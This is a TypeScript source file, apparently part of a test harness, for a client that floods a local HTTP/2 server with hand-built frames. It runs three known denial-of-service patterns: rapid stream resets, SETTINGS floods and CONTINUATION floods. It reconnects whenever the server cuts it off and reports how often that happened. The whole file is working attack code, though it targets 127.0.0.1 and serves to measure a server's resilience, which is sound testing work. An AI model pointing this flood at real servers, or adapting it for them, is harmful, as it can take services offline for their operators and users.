import { connect as connectTcp, type Socket } from 'node:net';
import { constants, setPriority } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';

/*
 * A client that floods: `node attacker.ts KIND PORT tls|h2c SECONDS`. It sends as much of one kind of frame as it is told to, over a
 * connection that is made anew whenever the edge has ended it. In the end it says what it has sent, and how often it was cut off. It is a less
 * important process than the others of its core, which it shares with the client that is measured: what is to be seen is what the edge makes of the flood.
 */

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const SETTINGS = frame(4, 0, 0);
/** GET / by a block of literals and indices (RFC 7541 §6). */
const BLOCK = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, 9]), Buffer.from('localhost')]);
const TICK_MS = 10;

/** Each kind: how many a second are sent, and the bytes of the `nth` of a connection. */
const KINDS: Readonly<Record<string, { readonly perSecond: number; readonly nth: (nth: number) => Buffer }>> = {
  resets: {
    perSecond: 10_000,
    nth: (nth) => Buffer.concat([frame(1, 5, 1 + 2 * nth, BLOCK), frame(3, 0, 1 + 2 * nth, Buffer.from([0, 0, 0, 8]))]),
  },
  settings: { perSecond: 10_000, nth: () => SETTINGS },
  continuations: {
    perSecond: 50,
    nth: (nth) =>
      Buffer.concat([
        frame(1, 1, 1 + 2 * nth, BLOCK),
        ...Array.from({ length: 999 }, () => frame(9, 0, 1 + 2 * nth, Buffer.from('x'))),
        frame(9, 4, 1 + 2 * nth),
      ]),
  },
};

export type Attack = { readonly sent: number; readonly connections: number; readonly cut: number };

function frame(type: number, flags: number, id: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
}

async function attack(kind: string, port: number, tls: boolean, seconds: number): Promise<Attack> {
  const { perSecond, nth } = KINDS[kind] as (typeof KINDS)[string];
  const counts = { sent: 0, connections: 0, cut: 0 };
  let socket: Socket | undefined;
  let ofThis = 0;
  const open = (): Socket => {
    counts.connections += 1;
    ofThis = 0;
    const made = tls
      ? connectTls({ port, host: '127.0.0.1', rejectUnauthorized: false, ALPNProtocols: ['h2'] })
      : connectTcp(port, '127.0.0.1');
    made.on('error', () => {});
    made.on('data', () => {});
    const over = (): void => {
      if (socket !== made) return;
      counts.cut += 1;
      socket = undefined;
      made.destroy();
    };
    made.on('end', over);
    made.on('close', over);
    made.write(Buffer.concat([PREFACE, SETTINGS]));
    return made;
  };
  const untilMs = performance.now() + seconds * 1000;
  let due = 0;
  while (performance.now() < untilMs) {
    due += (perSecond * TICK_MS) / 1000;
    socket ??= open();
    const pieces: Buffer[] = [];
    for (; due >= 1; due -= 1) pieces.push(nth(ofThis++));
    counts.sent += pieces.length;
    if (pieces.length > 0 && socket.writable && !socket.writableNeedDrain) socket.write(Buffer.concat(pieces));
    await sleep(TICK_MS);
  }
  socket?.destroy();
  return counts;
}

setPriority(constants.priority.PRIORITY_BELOW_NORMAL);
const [kind = '', port = '', how = '', seconds = ''] = process.argv.slice(2);
process.send?.(await attack(kind, Number(port), how === 'tls', Number(seconds)));
process.exit();
